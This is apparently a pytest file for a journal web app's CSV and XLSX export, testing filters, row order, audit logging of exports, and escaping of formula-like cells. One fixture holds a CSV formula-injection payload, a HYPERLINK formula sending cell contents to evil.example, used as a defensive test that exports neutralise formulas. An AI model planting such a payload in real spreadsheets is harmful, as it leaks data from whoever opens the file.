"""The journal's list as a file."""

import csv
import io
import zipfile

import pytest

from acd.journal.cards import Channel, open_card
from acd.journal.roles import Role
from acd.journal.store.cards import Entry
from acd.journal.web import listing
from tests.journal.test_cards import MONDAY
from tests.journal.website import BASE, site_on

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"щёлкни")'


@pytest.fixture
async def site(sqlite):
    """A desk with three cards, one of them written by somebody who knows spreadsheets."""
    made = await site_on(sqlite)
    for number, description in enumerate(("Жалоба на очередь; две строки\nвторая", HOSTILE, "Благодарность"), start=1):
        card = open_card(
            made.desk.journal.rules, MONDAY, Channel.EMAIL, description=description, responsible="operator_1",
            caller=f"+7916123456{number}", reason_id=made.reason,
        )  # fmt: skip
        await made.desk.journal.cards.add(card, Entry(MONDAY, "system"))
    return made


async def test_the_list_as_csv_holds_what_the_filters_show(site, monkeypatch):
    """Every page of it, newest first, with names from the catalogues, in the language of who asks."""
    monkeypatch.setattr(listing, "READ_AT_ONCE", 1)
    client = await site.client(Role.ADMINISTRATOR)
    answer = await client.get(f"{BASE}/journal.csv")
    assert answer.headers["content-disposition"] == 'attachment; filename="journal.csv"'
    assert answer.content.startswith(b"\xef\xbb\xbf")
    heads, *rows = csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";")
    assert heads[:3] == ["Номер", "Открыто", "Канал"]
    assert [row[0] for row in rows] == ["1300-2026-000003", "1300-2026-000002", "1300-2026-000001"]
    cells = dict(zip(heads, rows[2], strict=True))
    assert cells["Описание"] == "Жалоба на очередь; две строки\nвторая"
    assert cells["Причина обращения"] == "Запись к врачу"
    assert cells["Ответственный"] == "Сотрудник (operator_1)"
    narrowed = await client.get(f"{BASE}/journal.csv?text=благодарность")
    assert len(narrowed.content.splitlines()) == 2
    assert (await client.get(f"{BASE}/journal.csv?state=odd")).status_code == 400


async def test_no_cell_is_a_formula(site):
    """What a citizen has written is text to a spreadsheet, telephone numbers with a plus included."""
    client = await site.client(Role.ADMINISTRATOR)
    text = (await client.get(f"{BASE}/journal.csv")).content.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text), delimiter=";"):
        assert not [cell for cell in row if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert f"'{HOSTILE}".replace('"', '""') in text
    book = await client.get(f"{BASE}/journal.xlsx")
    with zipfile.ZipFile(io.BytesIO(book.content)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "HYPERLINK" in sheet


async def test_an_export_is_in_the_trail_with_what_was_asked_for(site):
    """S2: who has taken which part of the journal out of the house."""
    client = await site.client(Role.ADMINISTRATOR)
    await client.get(f"{BASE}/journal.csv?text=жалоба&open=1")
    (entry,) = [one for one in await site.desk.journal.trail.read() if one.action == "export"]
    assert (entry.actor, entry.detail) == ("administrator", "journal.csv open=1 text=жалоба")


async def test_a_workbook_that_nothing_could_open_is_refused(site, monkeypatch):
    """The page says what to do instead."""
    monkeypatch.setattr(listing, "IN_A_WORKBOOK", 2)
    client = await site.client(Role.ADMINISTRATOR)
    answer = await client.get(f"{BASE}/journal.xlsx")
    assert answer.status_code == 400
    assert "возьмите CSV" in answer.text
